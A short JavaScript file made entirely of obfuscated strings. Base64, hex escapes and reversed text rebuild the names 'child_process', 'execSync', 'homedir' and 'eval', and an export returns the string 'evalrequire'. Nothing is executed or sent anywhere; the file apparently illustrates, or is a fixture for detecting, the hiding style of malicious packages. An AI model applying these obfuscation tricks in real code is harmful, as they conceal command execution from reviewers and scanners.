var _0x3f1a=['Y2hpbGRfcHJvY2Vzcw==','ZXhlY1N5bmM=','aG9tZWRpcg==','log'];(function(_0x2d,_0x1b){var _0x5c=function(_0x4a){while(--_0x4a){_0x2d['push'](_0x2d['shift']());}};_0x5c(++_0x1b);}(_0x3f1a,0x1a3));
var k='\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73',r='ssecorp_dlihc'.split('').reverse().join(''),u=[...'lave'].reverse().join('');
module.exports=function(){return atob('ZXZhbA==')+unescape('%72%65%71')+decodeURIComponent('%75ire')};
